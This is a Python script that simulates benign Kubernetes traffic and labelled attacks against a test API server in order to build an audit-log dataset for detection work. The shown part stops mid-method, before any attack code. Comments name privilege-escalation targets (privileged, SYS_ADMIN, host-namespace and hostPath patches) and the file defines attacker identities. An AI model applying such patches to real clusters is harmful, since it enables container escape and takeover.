#!/usr/bin/env python3
"""Drive a real kube-apiserver (testbed/cluster.sh) through benign traffic and
labelled attacks, and turn its audit log into the corpus under data/.

    corpus.py run     --state DIR --server URL --kubectl PATH --data DIR [--duration S]
    corpus.py collect --state DIR --data DIR

`run` signs the identities' certificates, sets the cluster up, marks the
corpus start, runs the benign actors (threads) while the attack steps run one
after the other in the main thread, marks the end and writes
STATE/corpus/run.json. `collect` (after the API server has stopped, so every
event is on disk) reads the audit log and its rotated files, keeps the events
between the two marks, labels them and writes data/native.jsonl.gz and
data/labels.json. Standard library only.
"""

import argparse
import base64
import datetime
import glob
import gzip
import http.client
import json
import os
import random
import socket
import ssl
import subprocess
import sys
import threading
import time
import urllib.parse

# ------------------------------------------------------------------ basics

KUBECTL_UA = "kubectl/v1.37.2 (linux/amd64) kubernetes/$Format"
# What people's laptops send (a release kubectl carries its commit).
UA_MAC = "kubectl/v1.37.2 (darwin/arm64) kubernetes/4e1a6b2"
UA_LINUX = "kubectl/v1.37.2 (linux/amd64) kubernetes/4e1a6b2"
UA_KUBELET = "kubelet/v1.37.2 (linux/amd64) kubernetes/4e1a6b2"
UA_SCHED = "kube-scheduler/v1.37.2 (linux/amd64) kubernetes/4e1a6b2/scheduler"
UA_HELM = "Helm/3.16.2"
UA_PROM = "Prometheus/2.54.1"
UA_KSM = "kube-state-metrics/v2.13.0 (linux/amd64) kubernetes/unknown"
UA_RBAC_PROXY = "kube-rbac-proxy/v0.18.1 (linux/amd64) kubernetes/$Format"
UA_CM = "cert-manager-controller/v1.15.3 (linux/amd64) cert-manager/8d5bd13"
UA_CAINJ = "cert-manager-cainjector/v1.15.3 (linux/amd64) cert-manager/8d5bd13"
UA_ARGO = "argocd-application-controller/v2.12.4 (linux/amd64) kubernetes/unknown"
UA_DASH = "dashboard/v2.7.0"
UA_APP = "spring-cloud-kubernetes/3.1.3 (fabric8 kubernetes-client/6.13.1)"
UA_HAZEL = "okhttp/4.12.0"
UA_CURL = "curl/8.5.0"
UA_PYREQ = "python-requests/2.31.0"

# Addresses. The cluster's own network is loopback (127.0.0.0/8); people come
# through the office proxy with their address in X-Forwarded-For, attackers
# from TEST-NET addresses.
OFFICE = {"alice": "192.0.2.10", "dave": "192.0.2.11", "bob": "192.0.2.20", "carol": "192.0.2.30"}
ATTACK_OUTSIDE = "203.0.113.7"
ATTACK_ANON = "203.0.113.50"
ATTACK_BRUTE = "198.51.100.23"

NODES = [f"node{i}" for i in range(1, 9)]
KUBELET_PORT = 29250  # nothing listens: exec/attach/port-forward fail after the audit event

APP_NAMESPACES = ["shop", "payments", "inventory", "search", "auth", "frontend", "analytics", "data"]
RESTRICTED_NS = ["auth", "frontend", "search"]

# (namespace, app, replicas, uses a Secret, deployed by: "ssa" | "helm" | "none")
APPS = [
    ("shop", "web", 3, True, "ssa"),
    ("shop", "cart", 2, True, "ssa"),
    ("shop", "catalog", 2, False, "none"),          # attack target (privileged patch)
    ("shop", "recommendations", 1, False, "none"),  # attack target (SYS_ADMIN patch)
    ("payments", "api", 2, True, "ssa"),
    ("payments", "worker", 2, True, "none"),        # attack target (host namespaces patch)
    ("payments", "ledger", 1, True, "none"),        # attack target (hostPath update)
    ("inventory", "api", 2, True, "ssa"),
    ("inventory", "sync", 1, False, "helm"),
    ("search", "query", 2, False, "helm"),
    ("search", "indexer", 1, False, "helm"),
    ("auth", "oauth", 2, True, "helm"),
    ("frontend", "ui", 3, False, "helm"),
    ("analytics", "etl", 1, True, "helm"),
    ("analytics", "dashboard", 1, False, "helm"),
    ("data", "cache", 1, False, "ssa"),
]
ATTACK_TARGETS = {("shop", "catalog"), ("shop", "recommendations"), ("payments", "worker"), ("payments", "ledger")}
# In-app API clients (config reload, peer discovery): their service accounts.
APP_CLIENTS = [("shop", "web"), ("shop", "cart"), ("payments", "api"), ("inventory", "api"),
               ("search", "query"), ("auth", "oauth"), ("frontend", "ui"), ("analytics", "etl"),
               ("data", "cache")]

ATTACKERS = ["mallory", "eve", "trent", "system:anonymous", "system:node:worker-9",
             "system:serviceaccount:payments:billing-worker",
             "system:serviceaccount:tools:backup-agent"]
ATTACKER_ADDRESSES = [ATTACK_OUTSIDE, ATTACK_ANON, ATTACK_BRUTE]


def log(*a):
    print("corpus:", *a, file=sys.stderr, flush=True)


def parse_ts(s):
    # 2026-12-07T14:12:13.039907Z
    return datetime.datetime.strptime(s, "%Y-%m-%dT%H:%M:%S.%fZ").replace(
        tzinfo=datetime.timezone.utc).timestamp()


def q(**params):
    return urllib.parse.urlencode({k: v for k, v in params.items() if v is not None})


STOP = threading.Event()        # the benign actors stop
OPEN = set()                    # sockets of watches in flight, closed on stop
OPEN_LOCK = threading.Lock()
COUNT = {}
COUNT_LOCK = threading.Lock()


def count(kind):
    with COUNT_LOCK:
        COUNT[kind] = COUNT.get(kind, 0) + 1


# ------------------------------------------------------------------ clients

class Ident:
    """A credential: a client certificate or a bearer token (or none)."""

    def __init__(self, name, cert=None, key=None, token=None):
        self.name, self.cert, self.key, self.token = name, cert, key, token
        self._ctx = None

    def ctx(self, ca):
        if self._ctx is None:
            c = ssl.create_default_context(cafile=ca)
            if self.cert:
                c.load_cert_chain(self.cert, self.key)
            self._ctx = c
        return self._ctx


class Api:
    """One identity's kept-alive HTTPS connection (not shared between threads)."""

    def __init__(self, tb, ident, ua, xff=None, kind=None, timeout=30):
        self.tb, self.ident, self.ua, self.xff = tb, ident, ua, xff
        self.kind = kind or ident.name
        self.timeout = timeout
        self.conn = None
        self.last_audit_id = None
        self.lock = threading.Lock()  # one request at a time on the connection

    def _connection(self, timeout=None):
        if self.conn is None:
            self.conn = http.client.HTTPSConnection(
                self.tb.host, self.tb.port, context=self.ident.ctx(self.tb.ca),
                timeout=timeout or self.timeout)
        return self.conn

    def close(self):
        if self.conn is not None:
            try:
                self.conn.close()
            except Exception:
                pass
            self.conn = None

    def headers(self, accept="application/json", extra=None):
        h = {"User-Agent": self.ua, "Accept": accept}
        if self.ident.token:
            h["Authorization"] = "Bearer " + self.ident.token
        if self.xff:
            h["X-Forwarded-For"] = self.xff
        if extra:
            h.update(extra)
        return h

    def call(self, method, path, body=None, ctype="application/json", accept="application/json",
             headers=None):
        data = None
        h = self.headers(accept, headers)
        if body is not None:
            data = body if isinstance(body, (bytes, str)) else json.dumps(body)
            if isinstance(data, str):
                data = data.encode()
            h["Content-Type"] = ctype
        with self.lock:
            return self._call(method, path, data, h)

    def _call(self, method, path, data, h):
        for attempt in (0, 1):
            try:
                c = self._connection()
                c.request(method, path, body=data, headers=h)
                r = c.getresponse()
                raw = r.read()
                self.last_audit_id = r.getheader("Audit-Id")
                if (r.getheader("Connection") or "").lower() == "close":
                    self.close()
                count(self.kind)
                out = raw
                if raw and (r.getheader("Content-Type") or "").startswith("application/json"):
                    try:
                        out = json.loads(raw)
                    except ValueError:
                        pass
                return r.status, out
            except (http.client.HTTPException, OSError):
                self.close()
                if attempt:
                    raise
        raise AssertionError("unreachable")

    def get(self, path, **kw):
        return self.call("GET", path, **kw)

    def post(self, path, body, **kw):
        return self.call("POST", path, body, **kw)

    def put(self, path, body, **kw):
        return self.call("PUT", path, body, **kw)

    def patch(self, path, body, kind="strategic", **kw):
        ctype = {"strategic": "application/strategic-merge-patch+json",
                 "merge": "application/merge-patch+json",
                 "json": "application/json-patch+json",
                 "apply": "application/apply-patch+yaml"}[kind]
        return self.call("PATCH", path, body, ctype=ctype, **kw)

    def delete(self, path, body=None, **kw):
        return self.call("DELETE", path, body, **kw)

    def watch(self, path, timeout_s, on_event):
        """A watch request on its own connection; returns the last resourceVersion
        seen (or None) and whether the server said 410 Gone."""
        c = http.client.HTTPSConnection(self.tb.host, self.tb.port, context=self.ident.ctx(self.tb.ca),
                                        timeout=timeout_s + 30)
        rv, gone = None, False
        try:
            c.connect()
            with OPEN_LOCK:
                if STOP.is_set():
                    return None, False
                OPEN.add(c.sock)
            c.request("GET", path, headers=self.headers())
            r = c.getresponse()
            count(self.kind)
            if r.status != 200:
                r.read()
                return None, r.status == 410
            while True:
                line = r.readline()
                if not line:
                    break
                try:
                    ev = json.loads(line)
                except ValueError:
                    break
                t = ev.get("type")
                obj = ev.get("object") or {}
                if t == "ERROR":
                    gone = obj.get("code") == 410
                    break
                rv = (obj.get("metadata") or {}).get("resourceVersion") or rv
                if t != "BOOKMARK":
                    try:
                        on_event(t, obj)
                    except Exception as e:  # a handler's bug must not end the watch
                        log(f"{self.kind}: watch handler: {e!r}")
        except (http.client.HTTPException, OSError, ValueError):
            pass
        finally:
            with OPEN_LOCK:
                if c.sock is not None:
                    OPEN.discard(c.sock)
            c.close()
        return rv, gone


def close_watches():
    with OPEN_LOCK:
        for s in list(OPEN):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
        OPEN.clear()


class Informer(threading.Thread):
    """client-go's reflector: list, then watch from the list's resourceVersion
    with a random timeout, again and again; relist on 410 Gone."""

    def __init__(self, tb, ident, ua, path, query="", handler=None, tmin=40, tmax=120, kind=None,
                 relist=None):
        super().__init__(daemon=True)
        self.api = Api(tb, ident, ua, kind=kind)
        self.path, self.query = path, query
        self.handler = handler or (lambda t, o: None)
        self.tmin, self.tmax, self.relist = tmin, tmax, relist

    def url(self, **extra):
        base = urllib.parse.parse_qsl(self.query)
        return self.path + "?" + urllib.parse.urlencode(base + list(extra.items()))

    def run(self):
        while not STOP.is_set():
            try:
                st, lst = self.api.get(self.url(limit="500", resourceVersion="0"))
            except (OSError, http.client.HTTPException):
                st, lst = 0, None
            if st != 200 or not isinstance(lst, dict):
                STOP.wait(5)
                continue
            rv = lst["metadata"].get("resourceVersion")
            for it in lst.get("items") or []:
                self.handler("ADDED", it)
            listed = time.time()
            while not STOP.is_set():
                to = random.randint(self.tmin, self.tmax)
                new_rv, gone = self.api.watch(
                    self.url(allowWatchBookmarks="true", resourceVersion=rv, timeoutSeconds=str(to),
                             watch="true"), to, self.handler)
                if gone:
                    break
                rv = new_rv or rv
                if self.relist and time.time() - listed > self.relist:
                    break
                STOP.wait(0.2)


class Periodic(threading.Thread):
    """Calls fn() every period seconds (± jitter) until stopped."""

    def __init__(self, fn, period, jitter=0.3, first=None, name=None):
        super().__init__(daemon=True, name=name)
        self.fn, self.period, self.jitter = fn, period, jitter
        self.first = random.uniform(0, period) if first is None else first

    def run(self):
        if STOP.wait(self.first):
            return
        while not STOP.is_set():
            t0 = time.time()
            try:
                self.fn()
            except Exception as e:
                log(f"{self.name}: {e!r}")
            dt = self.period * random.uniform(1 - self.jitter, 1 + self.jitter) - (time.time() - t0)
            if STOP.wait(max(dt, 0.01)):
                return


# ------------------------------------------------------------------ test bed

class Testbed:
    def __init__(self, state, server, kubectl):
        self.state = state
        u = urllib.parse.urlparse(server)
        self.host, self.port = u.hostname, u.port
        self.server = server
        self.ca = os.path.join(state, "pki", "ca.crt")
        self.kubectl_bin = kubectl
        self.work = os.path.join(state, "corpus")
        os.makedirs(self.work, exist_ok=True)
        self.admin = Ident("palisade-admin", self.pki("admin.crt"), self.pki("admin.key"))

    def pki(self, f):
        return os.path.join(self.state, "pki", f)

    def sign(self, name, cn, orgs=()):
        """A client certificate signed by the test bed's CA (CN = user, O = groups)."""
        key, csr, crt = self.pki(name + ".key"), self.pki(name + ".csr"), self.pki(name + ".crt")
        if not os.path.exists(crt):
            subj = "".join(f"/O={o}" for o in orgs) + f"/CN={cn}"
            subprocess.run(["openssl", "req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1",
                            "-nodes", "-keyout", key, "-subj", subj, "-out", csr],
                           check=True, capture_output=True)
            ext = self.pki(name + ".ext")
            with open(ext, "w") as f:
                f.write("basicConstraints=CA:FALSE\nkeyUsage=critical,digitalSignature\n"
                        "extendedKeyUsage=clientAuth\n")
            subprocess.run(["openssl", "x509", "-req", "-in", csr, "-CA", self.ca, "-CAkey", self.pki("ca.key"),
                            "-CAcreateserial", "-days", "30", "-sha256", "-extfile", ext, "-out", crt],
                           check=True, capture_output=True)
            os.chmod(key, 0o600)
        return Ident(cn, crt, key)

    def kubeconfig(self, ident):
        path = os.path.join(self.work, f"{ident.name.replace(':', '_')}.kubeconfig")
        b64 = lambda p: base64.b64encode(open(p, "rb").read()).decode()
        user = {"client-certificate-data": b64(ident.cert), "client-key-data": b64(ident.key)} \
            if ident.cert else {"token": ident.token}
        cfg = {"apiVersion": "v1", "kind": "Config",
               "clusters": [{"name": "prod-eu-1", "cluster": {"server": self.server,
                                                              "certificate-authority-data": b64(self.ca)}}],
               "users": [{"name": ident.name, "user": user}],
               "contexts": [{"name": "prod-eu-1", "context": {"cluster": "prod-eu-1", "user": ident.name}}],
               "current-context": "prod-eu-1"}
        with open(path, "w") as f:
            json.dump(cfg, f)
        os.chmod(path, 0o600)
        return path

    def kubectl(self, ident, *args, stdin=None, check=False):
        kc = self.kubeconfig(ident)
        cache = os.path.join(self.work, "kcache-" + ident.name.replace(":", "_"))
        p = subprocess.run([self.kubectl_bin, "--kubeconfig", kc, "--cache-dir", cache, *args],
                           input=stdin, capture_output=True, text=True, timeout=60)
        if check and p.returncode != 0:
            raise RuntimeError(f"kubectl {' '.join(args)}: {p.stderr.strip()}")
        return p


# ------------------------------------------------------------------ objects

def meta(name, ns=None, labels=None, annotations=None):
    m = {"name": name}
    if ns:
        m["namespace"] = ns
    if labels:
        m["labels"] = labels
    if annotations:
        m["annotations"] = annotations
    return m


def image_of(ns, app, version):
    return f"registry.example.com/{ns}/{app}:{version}"


def pod_spec(ns, app, version, secret=False, sa=None):
    """A restricted-profile pod: non-root, no escalation, all capabilities dropped."""
    env = [{"name": "LOG_LEVEL", "valueFrom": {"configMapKeyRef": {"name": f"{app}-config", "key": "LOG_LEVEL"}}},
           {"name": "POD_NAME", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}}]
    c = {"name": app, "image": image_of(ns, app, version),
         "ports": [{"name": "http", "containerPort": 8080}],
         "env": env,
         "resources": {"requests": {"cpu": "100m", "memory": "128Mi"}, "limits": {"memory": "256Mi"}},
         "readinessProbe": {"httpGet": {"path": "/ready", "port": "http"}, "periodSeconds": 10},
         "securityContext": {"allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True,
                             "capabilities": {"drop": ["ALL"]}},
         "volumeMounts": [{"name": "tmp", "mountPath": "/tmp"},
                          {"name": "config", "mountPath": "/etc/app"}]}
    vols = [{"name": "tmp", "emptyDir": {}},
            {"name": "config", "configMap": {"name": f"{app}-config"}}]
    if secret:
        c["envFrom"] = [{"secretRef": {"name": f"{app}-db"}}]
    return {"serviceAccountName": sa or app, "automountServiceAccountToken": True,
            "securityContext": {"runAsNonRoot": True, "runAsUser": 10001, "fsGroup": 10001,
                                "seccompProfile": {"type": "RuntimeDefault"}},
            "containers": [c], "volumes": vols, "terminationGracePeriodSeconds": 30}


def deployment(ns, app, replicas, version="1.0.0", secret=False, labels=None):
    lab = {"app.kubernetes.io/name": app, "app.kubernetes.io/part-of": ns}
    lab.update(labels or {})
    return {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": meta(app, ns, lab),
            "spec": {"replicas": replicas, "revisionHistoryLimit": 3,
                     "selector": {"matchLabels": {"app.kubernetes.io/name": app}},
                     "strategy": {"type": "RollingUpdate",
                                  "rollingUpdate": {"maxSurge": 1, "maxUnavailable": 0}},
                     "template": {"metadata": {"labels": {"app.kubernetes.io/name": app,
                                                          "app.kubernetes.io/part-of": ns}},
                                  "spec": pod_spec(ns, app, version, secret)}}}


def service(ns, app, labels=None):
    lab = {"app.kubernetes.io/name": app}
    lab.update(labels or {})
    return {"apiVersion": "v1", "kind": "Service", "metadata": meta(app, ns, lab),
            "spec": {"selector": {"app.kubernetes.io/name": app},
                     "ports": [{"name": "http", "port": 80, "targetPort": "http"}]}}


def app_config(ns, app, rev=0, labels=None):
    data = {"LOG_LEVEL": random.choice(["info", "info", "debug", "warn"]),
            "FEATURE_FLAGS": "new-checkout,fast-search" if rev % 2 else "new-checkout",
            "DB_HOST": f"{app}-db.{ns}.svc.cluster.local", "DB_PORT": "5432",
            "CACHE_URL": "redis://cache.data.svc.cluster.local:6379/0",
            "app.yaml": f"server:\n  port: 8080\nmetrics:\n  enabled: true\nrevision: {rev}\n"}
    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": meta(f"{app}-config", ns, labels), "data": data}


def b64s(s):
    return base64.b64encode(s.encode()).decode()


def rnd_token(n=32):
    return base64.b64encode(os.urandom(n)).decode()


def role(name, rules, ns=None):
    kind = "Role" if ns else "ClusterRole"
    return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": kind, "metadata": meta(name, ns), "rules": rules}


def binding(name, role_kind, role_name, subjects, ns=None):
    kind = "RoleBinding" if ns else "ClusterRoleBinding"
    return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": kind, "metadata": meta(name, ns),
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": role_kind, "name": role_name},
            "subjects": subjects}


def user(n):
    return {"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": n}


def sa_subj(ns, n):
    return {"kind": "ServiceAccount", "name": n, "namespace": ns}


def rule(groups, resources, verbs):
    return {"apiGroups": groups, "resources": resources, "verbs": verbs}


READ = ["get", "list", "watch"]
WRITE = ["get", "list", "watch", "create", "update", "patch", "delete"]

PLURAL = {"Deployment": ("apis/apps/v1", "deployments"), "StatefulSet": ("apis/apps/v1", "statefulsets"),
          "DaemonSet": ("apis/apps/v1", "daemonsets"), "Service": ("api/v1", "services"),
          "ConfigMap": ("api/v1", "configmaps"), "Secret": ("api/v1", "secrets"),
          "ServiceAccount": ("api/v1", "serviceaccounts"), "Namespace": ("api/v1", "namespaces"),
          "Role": ("apis/rbac.authorization.k8s.io/v1", "roles"),
          "ClusterRole": ("apis/rbac.authorization.k8s.io/v1", "clusterroles"),
          "RoleBinding": ("apis/rbac.authorization.k8s.io/v1", "rolebindings"),
          "ClusterRoleBinding": ("apis/rbac.authorization.k8s.io/v1", "clusterrolebindings"),
          "Ingress": ("apis/networking.k8s.io/v1", "ingresses"),
          "ValidatingWebhookConfiguration": ("apis/admissionregistration.k8s.io/v1", "validatingwebhookconfigurations"),
          "MutatingWebhookConfiguration": ("apis/admissionregistration.k8s.io/v1", "mutatingwebhookconfigurations"),
          "Pod": ("api/v1", "pods"), "CronJob": ("apis/batch/v1", "cronjobs"),
          "NetworkPolicy": ("apis/networking.k8s.io/v1", "networkpolicies"),
          "PodDisruptionBudget": ("apis/policy/v1", "poddisruptionbudgets")}


def coll_path(obj):
    prefix, plural = PLURAL[obj["kind"]]
    ns = obj["metadata"].get("namespace")
    return f"/{prefix}/namespaces/{ns}/{plural}" if ns else f"/{prefix}/{plural}"


def obj_path(obj):
    return coll_path(obj) + "/" + obj["metadata"]["name"]


def create(api, obj, ok=(200, 201, 409)):
    st, out = api.post(coll_path(obj), obj)
    if st not in ok:
        raise RuntimeError(f"create {obj['kind']} {obj['metadata'].get('namespace', '')}/{obj['metadata']['name']}: {st} {out}")
    return st, out


def ssa(api, obj, manager, force=True):
    """Server-side apply (JSON is YAML)."""
    return api.patch(obj_path(obj) + "?" + q(fieldManager=manager, fieldValidation="Strict",
                                                force="true" if force else "false"),
                     json.dumps(obj), kind="apply")


# ------------------------------------------------------------------ control plane stand-ins

def micro_now():
    return datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def sec_now():
    return datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


class Tasks(threading.Thread):
    """A small timer queue run by one thread (a kubelet's pod workers)."""

    def __init__(self, name):
        super().__init__(daemon=True, name=name)
        self.items = []
        self.lock = threading.Lock()
        self.seq = 0

    def at(self, delay, fn):
        with self.lock:
            self.seq += 1
            self.items.append((time.time() + delay, self.seq, fn))

    def run(self):
        while not STOP.is_set():
            now = time.time()
            with self.lock:
                due = [t for t in self.items if t[0] <= now]
                self.items = [t for t in self.items if t[0] > now]
            for _, _, fn in sorted(due):
                if STOP.is_set():
                    return
                try:
                    fn()
                except Exception as e:
                    log(f"{self.name}: {e!r}")
            STOP.wait(0.1)


class NodeAgent:
    """What a kubelet sends: registration, lease renewals (not logged by the
    policy), status heartbeats, its pods (field selector spec.nodeName), the
    Secrets and ConfigMaps they use, their service-account tokens, their status,
    and the final delete of a terminating pod."""

    def __init__(self, tb, name, idx, rate=1.0):
        self.tb, self.name, self.idx, self.rate = tb, name, idx, rate
        self.ident = tb.sign(f"node-{name}", f"system:node:{name}", ["system:nodes"])
        self.api = Api(tb, self.ident, UA_KUBELET, kind="node")
        self.addr = f"127.0.1.{idx + 1}"  # the kubelet's address: nothing listens there
        self.vpc_ip = f"10.0.{idx}.10"
        self.lease = None
        self.pods = {}  # uid -> pod
        self.flags = {}  # uid -> {"killing", "started"}
        self.ip_seq = 10
        self.tasks = Tasks(f"kubelet-{name}")

    def conditions(self):
        t = sec_now()
        def c(typ, status, reason, msg):
            return {"type": typ, "status": status, "reason": reason, "message": msg,
                    "lastHeartbeatTime": t, "lastTransitionTime": self.started}
        return [c("MemoryPressure", "False", "KubeletHasSufficientMemory", "kubelet has sufficient memory available"),
                c("DiskPressure", "False", "KubeletHasNoDiskPressure", "kubelet has no disk pressure"),
                c("PIDPressure", "False", "KubeletHasSufficientPID", "kubelet has sufficient PID available"),
                c("Ready", "True", "KubeletReady", "kubelet is posting ready status")]

    def register(self):
        self.started = sec_now()
        zone = ["eu-west-1a", "eu-west-1b", "eu-west-1c"][self.idx % 3]
        node = {"apiVersion": "v1", "kind": "Node",
                "metadata": {"name": self.name, "labels": {
                    "kubernetes.io/hostname": self.name, "kubernetes.io/os": "linux", "kubernetes.io/arch": "amd64",
                    "node.kubernetes.io/instance-type": "m6i.xlarge", "topology.kubernetes.io/zone": zone,
                    "topology.kubernetes.io/region": "eu-west-1"}},
                "spec": {}}
        st, out = self.api.post("/api/v1/nodes", node)
        if st not in (201, 409):
            raise RuntimeError(f"register {self.name}: {st} {out}")
        self.status_patch(full=True)
        lease = {"apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
                 "metadata": {"name": self.name, "namespace": "kube-node-lease"},
                 "spec": {"holderIdentity": self.name, "leaseDurationSeconds": 40, "renewTime": micro_now()}}
        st, out = self.api.post("/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases", lease)
        if st == 201:
            self.lease = out

    def status_patch(self, full=False):
        status = {"conditions": self.conditions()}
        if full:
            status.update({
                # InternalIP only: with a Hostname address the API server would resolve
                # the node's name through DNS to reach its kubelet.
                "addresses": [{"type": "InternalIP", "address": self.addr}],
                "daemonEndpoints": {"kubeletEndpoint": {"Port": KUBELET_PORT}},
                "capacity": {"cpu": "4", "memory": "16106128Ki", "pods": "110", "ephemeral-storage": "102687672Ki"},
                "allocatable": {"cpu": "3920m", "memory": "15291024Ki", "pods": "110", "ephemeral-storage": "94635070464"},
                "nodeInfo": {"machineID": f"ec2{self.idx:029d}", "systemUUID": f"ec2{self.idx:05d}-0000-4000-8000-000000000000",
                             "bootID": f"b00{self.idx:05d}-0000-4000-8000-000000000000",
                             "kernelVersion": "6.1.112-124.190.amzn2023.x86_64", "osImage": "Amazon Linux 2023.6.20241031",
                             "containerRuntimeVersion": "containerd://1.7.23", "kubeletVersion": "v1.37.2",
                             "kubeProxyVersion": "", "operatingSystem": "linux", "architecture": "amd64"}})
        body = {"status": status}
        if not full:
            body["status"]["$setElementOrder/conditions"] = [{"type": c["type"]} for c in status["conditions"]]
        return self.api.patch(f"/api/v1/nodes/{self.name}/status", body)

    def heartbeat(self):
        # Lease renewal: GET/PUT leases are not logged by the generated policy.
        if self.lease is None:
            st, out = self.api.get(f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{self.name}")
            if st == 200:
                self.lease = out
        if self.lease is not None:
            self.lease["spec"]["renewTime"] = micro_now()
            st, out = self.api.put(f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{self.name}",
                                   self.lease)
            self.lease = out if st == 200 else None

    def start(self, tb):
        self.tasks.start()
        Periodic(self.heartbeat, 4, name=f"lease-{self.name}").start()
        Periodic(self.status_patch, 12 / self.rate, name=f"status-{self.name}").start()
        Informer(tb, self.ident, UA_KUBELET, "/api/v1/pods", q(fieldSelector=f"spec.nodeName={self.name}"),
                 self.on_pod, kind="node").start()
        Informer(tb, self.ident, UA_KUBELET, "/api/v1/nodes", q(fieldSelector=f"metadata.name={self.name}"),
                 kind="node").start()
        Informer(tb, self.ident, UA_KUBELET, "/api/v1/services", "", kind="node").start()
        Periodic(self.refresh, 20 / self.rate, name=f"refresh-{self.name}").start()

    # -- pods
    def on_pod(self, typ, pod):
        md, st = pod["metadata"], pod.get("status", {})
        uid = md["uid"]
        if typ == "DELETED":
            self.pods.pop(uid, None)
            self.flags.pop(uid, None)
            return
        known = uid in self.pods
        self.pods[uid] = pod
        fl = self.flags.setdefault(uid, set())
        if md.get("deletionTimestamp"):
            if "killing" not in fl:
                fl.add("killing")
                self.tasks.at(random.uniform(0.5, 2.0), lambda: self.kill(uid))
            return
        if not known and st.get("phase", "Pending") == "Pending":
            self.tasks.at(random.uniform(0.3, 2.5), lambda: self.run_pod(uid))

    def refs(self, pod):
        ns = pod["metadata"]["namespace"]
        secrets, cms = set(), set()
        spec = pod["spec"]
        for c in spec.get("containers", []) + spec.get("initContainers", []):
            for e in c.get("envFrom", []) or []:
                if "secretRef" in e:
                    secrets.add(e["secretRef"]["name"])
                if "configMapRef" in e:
                    cms.add(e["configMapRef"]["name"])
            for e in c.get("env", []) or []:
                vf = e.get("valueFrom") or {}
                if "secretKeyRef" in vf:
                    secrets.add(vf["secretKeyRef"]["name"])
                if "configMapKeyRef" in vf:
                    cms.add(vf["configMapKeyRef"]["name"])
        for v in spec.get("volumes", []) or []:
            if "secret" in v:
                secrets.add(v["secret"]["secretName"])
            if "configMap" in v:
                cms.add(v["configMap"]["name"])
            for src in (v.get("projected") or {}).get("sources", []):
                if "configMap" in src:
                    cms.add(src["configMap"]["name"])
                if "secret" in src:
                    secrets.add(src["secret"]["name"])
        return ns, sorted(secrets), sorted(cms)

    def read_refs(self, pod):
        ns, secrets, cms = self.refs(pod)
        for s in secrets:
            self.api.get(f"/api/v1/namespaces/{ns}/secrets?" + q(fieldSelector=f"metadata.name={s}", limit="500",
                                                                  resourceVersion="0"))
        for c in cms:
            self.api.get(f"/api/v1/namespaces/{ns}/configmaps?" + q(fieldSelector=f"metadata.name={c}", limit="500",
                                                                     resourceVersion="0"))

    def token(self, pod):
        md = pod["metadata"]
        sa = pod["spec"].get("serviceAccountName") or "default"
        has_token = any("projected" in v for v in pod["spec"].get("volumes", []) or [])
        if not has_token:
            return
        self.api.post(f"/api/v1/namespaces/{md['namespace']}/serviceaccounts/{sa}/token",
                      {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest",
                       "spec": {"expirationSeconds": 3607,
                                "boundObjectRef": {"kind": "Pod", "apiVersion": "v1", "name": md["name"],
                                                   "uid": md["uid"]}}})

    def run_pod(self, uid):
        pod = self.pods.get(uid)
        if STOP.is_set() or pod is None or "killing" in self.flags.get(uid, ()):
            return
        md = pod["metadata"]
        ns, name = md["namespace"], md["name"]
        self.read_refs(pod)
        self.token(pod)
        st, cur = self.api.get(f"/api/v1/namespaces/{ns}/pods/{name}")
        if st != 200 or cur["metadata"].get("deletionTimestamp"):
            return
        self.ip_seq += 1
        ip = f"10.244.{self.idx}.{self.ip_seq % 250 + 2}"
        t = sec_now()
        hostnet = cur["spec"].get("hostNetwork")
        cstat = [{"name": c["name"], "ready": True, "started": True, "restartCount": 0, "image": c["image"],
                  "imageID": c["image"].split(":")[0] + "@sha256:" + os.urandom(32).hex(),
                  "containerID": "containerd://" + os.urandom(32).hex(),
                  "state": {"running": {"startedAt": t}}} for c in cur["spec"]["containers"]]
        conds = [{"type": typ, "status": "True", "lastProbeTime": None, "lastTransitionTime": t}
                 for typ in ("PodReadyToStartContainers", "Initialized", "Ready", "ContainersReady")]
        body = {"metadata": {"uid": md["uid"]},
                "status": {"$setElementOrder/conditions": [{"type": c["type"]} for c in conds] + [{"type": "PodScheduled"}],
                           "conditions": conds, "phase": "Running", "startTime": t,
                           "hostIP": self.addr, "hostIPs": [{"ip": self.addr}],
                           # endpoints refuse loopback addresses: a host-network pod gets
                           # the node's would-be VPC address
                           "podIP": self.vpc_ip if hostnet else ip, "podIPs": [{"ip": self.vpc_ip if hostnet else ip}],
                           "containerStatuses": cstat}}
        self.api.patch(f"/api/v1/namespaces/{ns}/pods/{name}/status", body)
        self.flags.setdefault(uid, set()).add("started")
        owners = [o.get("kind") for o in md.get("ownerReferences", [])]
        if "Job" in owners:
            self.tasks.at(random.uniform(3, 8), lambda: self.complete(uid, cstat))

    def complete(self, uid, cstat):
        pod = self.pods.get(uid)
        if STOP.is_set() or pod is None or "killing" in self.flags.get(uid, ()):
            return
        md = pod["metadata"]
        t = sec_now()
        for c in cstat:
            c["ready"], c["started"] = False, False
            c["state"] = {"terminated": {"exitCode": 0, "reason": "Completed", "startedAt": c["state"]["running"]["startedAt"],
                                         "finishedAt": t, "containerID": c["containerID"]}}
        conds = [{"type": "Ready", "status": "False", "reason": "PodCompleted", "lastProbeTime": None, "lastTransitionTime": t},
                 {"type": "ContainersReady", "status": "False", "reason": "PodCompleted", "lastProbeTime": None,
                  "lastTransitionTime": t}]
        self.api.patch(f"/api/v1/namespaces/{md['namespace']}/pods/{md['name']}/status",
                       {"metadata": {"uid": md["uid"]}, "status": {"phase": "Succeeded", "conditions": conds,
                                                                  "containerStatuses": cstat}})

    def kill(self, uid):
        pod = self.pods.get(uid)
        if pod is None:
            return
